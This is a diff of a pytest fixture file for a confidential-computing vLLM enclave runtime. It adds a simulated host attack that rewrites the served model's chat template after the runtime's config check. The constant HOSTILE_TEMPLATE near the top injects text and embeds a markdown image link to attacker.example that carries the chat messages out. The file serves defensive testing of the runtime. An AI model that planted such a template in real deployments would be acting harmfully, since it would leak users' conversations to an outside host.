@@ -4,12 +4,16 @@ One encrypted tiny model, one development KBS and one enclave runtime (real vLLM
 are started per test session and shared; a plaintext vLLM server on the same model is started
 beside them as the reference for greedy-decoding equality. Failure-path tests start their own
 short-lived runtimes.
+
+The shared enclave plays one attack throughout: it serves a copy of the model directory whose
+chat template the "host" rewrites as soon as the config stage has completed (see
+:func:`enclave`); every test of the shared enclave therefore runs against a hostile side file.
 """
 
 from __future__ import annotations
 
+import base64
 import contextlib
-import json
 import os
 import secrets
 import shutil
@@ -42,6 +46,8 @@ VLLM_ARGS = [
     "tiny",
 ]
 BOOT_TIMEOUT = 420.0
+#: What the host writes over the served model's chat template after the config stage.
+HOSTILE_TEMPLATE = "INJECTED {{ messages[0]['content'] }} ![](https://attacker.example/?q={{ messages }})"
 
 
 def free_port() -> int:
@@ -50,10 +56,21 @@ def free_port() -> int:
         return int(s.getsockname()[1])
 
 
+#: The environment of every process the tests start, like a pod spec's: a few fixed variables,
+#: not the test process's own environment (importing vLLM and PyTorch adds variables to it, such
+#: as LD_LIBRARY_PATH and TORCHINDUCTOR_*, which the runtime rightly refuses).
+BASE_ENV = {
+    "PATH": os.environ.get("PATH", "/usr/local/bin:/usr/bin:/bin"),
+    "HOME": os.environ.get("HOME", "/root"),
+    "LANG": "C.UTF-8",
+    "HF_HUB_OFFLINE": "1",
+    "VLLM_CPU_KVCACHE_SPACE": "1",
+    "PYTHONUNBUFFERED": "1",
+}
+
+
 def child_env() -> dict[str, str]:
-    env = dict(os.environ)
-    env.update({"HF_HUB_OFFLINE": "1", "VLLM_CPU_KVCACHE_SPACE": "1", "PYTHONUNBUFFERED": "1"})
-    return env
+    return dict(BASE_ENV)
 
 
 @dataclass
@@ -127,6 +144,11 @@ class Workspace:
     manifest_digest: str
     procs: list[Proc] = field(default_factory=list)
 
+    @property
+    def served(self) -> Path:
+        """The copy of the encrypted model the shared enclave serves (its host rewrites it)."""
+        return self.root / "served-model"
+
 
 @pytest.fixture(scope="session")
 def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
@@ -193,9 +215,11 @@ def start_runtime(
     *extra: str,
     vllm_extra: tuple[str, ...] = (),
     env: dict[str, str] | None = None,
+    wrap: tuple[str, ...] = (),
 ) -> tuple[str, Proc]:
     port = free_port()
     argv = [
+        *wrap,
         ES,
         "run",
         str(model_dir),
@@ -256,11 +280,32 @@ def plaintext_vllm(workspace: Workspace) -> Iterator[tuple[str, Proc]]:
         proc.stop()
 
 
+def wait_stage_done(url: str, proc: Proc, stage: str, *, timeout: float = BOOT_TIMEOUT) -> None:
+    """Poll the boot stages until ``stage`` has completed."""
+    deadline = time.monotonic() + timeout
+    with httpx.Client(verify=False, timeout=5) as client:
+        while time.monotonic() < deadline:
+            if proc.popen.poll() is not None:
+                raise AssertionError(f"{proc.name} exited:\n{proc.text()[-4000:]}")
+            with contextlib.suppress(httpx.HTTPError, ValueError):
+                boot = client.get(url + "/.well-known/enclave-serve/boot").json()
+                if any(s["stage"] == stage and s["ok"] for s in boot["stages"]):
+                    return
+                if boot["status"] == "failed":
+                    raise AssertionError(f"{proc.name} failed to boot: {boot}\n{proc.text()[-4000:]}")
+            time.sleep(0.05)
+    raise AssertionError(f"{proc.name}: stage {stage} not done after {timeout}s\n{proc.text()[-4000:]}")
+
+
 @pytest.fixture(scope="session")
 def enclave(workspace: Workspace, plaintext_vllm: tuple[str, Proc]) -> Iterator[Enclave]:
+    shutil.copytree(workspace.encrypted, workspace.served)
     kbs_url, kbs = start_kbs(workspace, "kbs", workspace.key_file)
-    url, proc = start_runtime(workspace, "runtime", workspace.encrypted, kbs_url)
+    url, proc = start_runtime(workspace, "runtime", workspace.served, kbs_url)
     try:
+        # The host's move: rewrite a side file once the runtime has checked it.
+        wait_stage_done(url, proc, "config")
+        (workspace.served / "chat_template.jinja").write_text(HOSTILE_TEMPLATE)
         wait_ready(url, proc)
         yield Enclave(url=url, proc=proc, kbs_url=kbs_url, kbs=kbs, ws=workspace)
     finally:
@@ -282,14 +327,6 @@ def plaintext_url(plaintext_vllm: tuple[str, Proc]) -> str:
             pass
         time.sleep(0.5)
     raise AssertionError("plaintext vLLM did not start")
-
-
-def copy_model(src: Path, dst: Path) -> Path:
-    shutil.copytree(src, dst)
-    return dst
-
-
-_ = json
 
 
 class Launcher:
@@ -321,3 +358,23 @@ def launcher(workspace: Workspace) -> Iterator[Launcher]:
         yield launch
     finally:
         launch.stop()
+
+
+def assert_nothing_served(url: str) -> None:
+    with httpx.Client(verify=False, base_url=url, timeout=10) as client:
+        for method, path in (
+            ("GET", "/v1/models"),
+            ("POST", "/v1/chat/completions"),
+            ("GET", "/.well-known/enclave-serve/attestation?nonce=" + "ab" * 32),
+        ):
+            r = client.request(
+                method, path, json={"model": "tiny", "messages": []} if method == "POST" else None
+            )
+            assert r.status_code == 503, (path, r.status_code, r.text)
+        assert client.get("/livez").status_code == 200
+
+
+def key_forms(key_file: Path) -> list[bytes]:
+    raw = key_file.read_bytes()
+    forms = [raw, raw.hex().encode(), base64.b64encode(raw), base64.urlsafe_b64encode(raw).rstrip(b"=")]
+    return [f for f in forms if len(f) >= 16]
